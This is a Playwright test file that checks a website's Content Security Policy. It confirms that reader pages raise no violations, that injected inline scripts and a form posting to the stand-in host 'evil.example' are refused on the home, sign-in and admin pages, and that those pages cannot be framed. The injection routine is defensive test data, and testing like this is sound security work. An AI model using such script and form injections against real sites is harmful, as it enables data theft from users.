import { expect } from '@playwright/test'
import { recordViolations } from '../support/policy-violations.ts'
import { signInAs } from '../support/session.ts'
import { test } from '../support/test.ts'

test('the policy refuses nothing that the pages of readers do', async ({ page }) => {
  const violations = await recordViolations(page)
  for (const path of [
    '/',
    '/article/a-bath-with-nowhere-else-to-be',
    '/living-spaces',
    '/authors',
    '/no-such-page',
  ]) {
    await page.goto(path)
    await page.keyboard.press('End')
  }
  await page.goto('/browse?search=green')
  await expect(
    page.locator('.results').getByText('The green room, kept').filter({ visible: true }).first(),
  ).toBeVisible()
  await page.goto('/contact')
  await page.getByRole('button', { name: 'Send Message' }).click()
  await expect(page.locator('[aria-invalid=true]').first()).toBeVisible()
  expect(violations).toEqual([])
})

test('a script or form that somebody brought into a page does nothing', async ({ page }) => {
  const requested: string[] = []
  page.on('request', (request) => {
    if (request.url().startsWith('http://evil.example/')) requested.push(page.url())
  })
  for (const [path, whole] of [
    ['/', page.getByRole('contentinfo')],
    ['/auth', page.getByRole('button', { name: 'Sign In' })],
    ['/admin', page.getByRole('heading', { level: 1, name: /^Welcome back/ })],
  ] as const) {
    // Without a session the admin leads on to the sign-in.
    if (path === '/admin') await signInAs(page, 'editor')
    expect((await page.goto(path))?.status(), path).toBe(200)
    await expect(whole).toBeVisible()
    expect(await page.evaluate(bringInScriptsAndForm), path).toEqual({
      refused: ['form-action http://evil.example/?', 'script-src-attr inline', 'script-src-elem inline'],
      ran: false,
      path,
    })
  }
  expect(requested, 'pages that sent the form').toEqual([])
})

/** Runs in a page: adds two scripts and a form to it. Returns what its policy refused within five seconds. */
async function bringInScriptsAndForm() {
  const refused: string[] = []
  const all = new Promise<void>((resolve) => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      refused.push(`${effectiveDirective} ${blockedURI}`)
      if (refused.length === 3) resolve()
    })
    setTimeout(resolve, 5_000)
  })
  const script = document.createElement('script')
  script.textContent = 'globalThis.ran = true'
  document.body.append(script)
  const button = document.createElement('button')
  button.setAttribute('onclick', 'globalThis.ran = true')
  document.body.append(button)
  button.click()
  const form = document.createElement('form')
  form.action = 'http://evil.example/'
  document.body.append(form)
  form.requestSubmit()
  await all
  return { refused: refused.sort(), ran: 'ran' in globalThis, path: location.pathname }
}

test('no page can frame the admin or the sign-in', async ({ page, baseURL }) => {
  await page.route('**/frames', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: ['/', '/admin', '/auth'].map((path) => `<iframe src="${baseURL}${path}"></iframe>`).join(''),
    }),
  )
  await page.goto('/frames')
  await expect(page.frameLocator('iframe >> nth=0').getByRole('banner')).toBeVisible()
  for (const frame of page.frames().slice(2)) expect(frame.url()).toMatch(/^chrome-error:/)
})
